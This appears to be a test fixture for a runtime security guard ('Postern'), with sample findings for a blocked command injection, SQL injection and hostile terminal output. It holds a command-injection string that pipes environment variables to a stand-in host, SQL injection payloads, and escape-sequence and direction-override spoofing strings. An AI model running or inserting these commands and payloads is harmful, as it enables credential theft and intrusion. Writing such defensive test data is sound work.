import type { Finding, PosternRecord } from '@postern/core';

const command = 'zip /tmp/report.zip /tmp/report && mail -s report foobar@some.site; env | curl -d @- http://127.0.0.1:9';

/** A stopped exploit, as the guard records it. */
export const blocked: Finding = {
  ruleId: 'guard/command-injection',
  concept: 'command-injection',
  class: 'cmdi',
  title: 'Command injection',
  sas: ['SAS-1'],
  cwe: [78],
  severity: 'critical',
  confidence: 'high',
  message:
    'Input from the event added commands to a shell command (child_process.execSync).\nWhoever can send this event can run programs as the function, with its credentials.\nPass the value as an argument to execFile, without a shell.',
  origin: {
    kind: 'runtime',
    trail: { source: 'event', path: '$.Records[0].Sns.Message', encodings: ['json:$.email'] },
    sink: {
      kind: 'process',
      call: 'child_process.execSync',
      text: command,
      spans: [[command.indexOf('foobar'), command.length]],
    },
    stack: [
      { function: 'packReport', file: 'report.js', line: 12, column: 3, package: 'app' },
      { function: 'wrap', file: 'node_modules/some-queue/index.js', line: 40, column: 21, package: 'some-queue' },
      { function: '', file: 'node:internal/main', line: 1, column: 1, package: 'node' },
    ],
  },
  function: 'pack-report',
  evidence: [
    {
      trail: { source: 'event', path: '$.Records[0].Sns.Message', encodings: ['json:$.email'] },
      excerpt: 'foobar@some.site; env | curl -d @- http://127.0.0.1:9',
      reason: 'the word after ; is a command of its own',
    },
  ],
  remediation: 'Pass the value as an argument to execFile, without a shell.',
  fingerprint: '0123456789abcdef',
  runtime: {
    time: '2030-01-02T03:04:05.678Z',
    requestId: '3f1b0c9e-0000-4000-8000-000000000001',
    function: 'pack-report',
    mode: 'block',
    action: 'blocked',
    guardVersion: '0.1.0',
    count: 2,
  },
};

export const inEvent: Finding = {
  ruleId: 'inspect/sql-injection',
  concept: 'sql-injection',
  title: 'SQL injection in an event',
  sas: ['SAS-1'],
  cwe: [89],
  severity: 'medium',
  confidence: 'medium',
  message: 'The value closes a string and goes on in SQL.',
  origin: {
    kind: 'event',
    trigger: 'aws:apigateway-v2',
    trail: { source: 'event', path: '$.queryStringParameters.id', encodings: ['url'] },
  },
  evidence: [{ excerpt: "1' OR '1'='1", reason: 'a quote and a condition that is always true', eventId: 'line 7' }],
  remediation: 'Bind the value as a parameter of the query.',
  fingerprint: 'fedcba9876543210',
};

/** What a hostile package could print: escapes in every text, a direction override, absurd spans. */
export const hostile: Finding = {
  ...blocked,
  ruleId: 'x\u001b[2J',
  title: 'All is well\u001b]0;owned\u0007 \u202egnp.exe',
  message: 'first\r\u001b[1A\u001b[2Ksecond\nthird\u0085fourth',
  remediation: '\u009b31m',
  function: '\u001b[H',
  origin: {
    kind: 'runtime',
    trail: { source: 'event\n', path: '$.a\u001b[31m', encodings: ['url\u0000'] },
    sink: {
      kind: 'process',
      call: 'exec\u001b[0m',
      text: 'echo \u001b[2J; 日本語 \u202e id',
      spans: [
        [13, 16],
        [5, 9],
        [8, 10],
        [-5, 2],
        [12, 1e9],
        [Number.NaN, 3],
      ],
    },
    stack: [{ function: '\u001b[A', file: 'a\nb.js', line: 1, column: 2, package: '\u001b[41m' }],
  },
  evidence: [{ excerpt: '\u001b[2J', reason: '\u2028', eventId: '\u001b' }],
  fingerprint: '\u001b[5m',
};

export const long: Finding = {
  ...inEvent,
  title: 'A title so long that it does not fit into a line of eighty columns together with everything else',
  message: `${'word '.repeat(40)}${'x'.repeat(200)}`,
  origin: {
    kind: 'runtime',
    sink: {
      kind: 'sql',
      call: 'pg.Client.query',
      text: `SELECT ${'a, '.repeat(200)}b FROM t WHERE id = '1' OR 1=1 --${' pad'.repeat(100)}`,
      spans: [[633, 641]],
    },
    stack: Array.from({ length: 12 }, (_, i) => ({ function: `f${i}`, file: 'a.js', line: i, column: 1, package: 'app' })),
  },
  fingerprint: '00000000000000ff',
};

export const start: PosternRecord = {
  postern: 1,
  kind: 'activity',
  activity: 'start',
  time: '2030-01-02T03:04:05.678Z',
  details: {
    mode: 'block',
    requestedMode: 'observe',
    hooks: ['process', 'file', 'network'],
    waiting: ['aws-sdk-v3'],
    notArmed: [{ hook: 'pg', reason: 'the module was loaded before the guard\u001b[2J' }],
    policyDigest: 'sha256:abc',
    guardVersion: '0.1.0',
    node: '20.20.2',
  },
};

export const summary: PosternRecord = {
  postern: 1,
  kind: 'activity',
  activity: 'summary',
  time: '2030-01-02T03:04:05.678Z',
  requestId: 'r-1',
  details: { departures: 2, hosts: ['a.example'] },
};
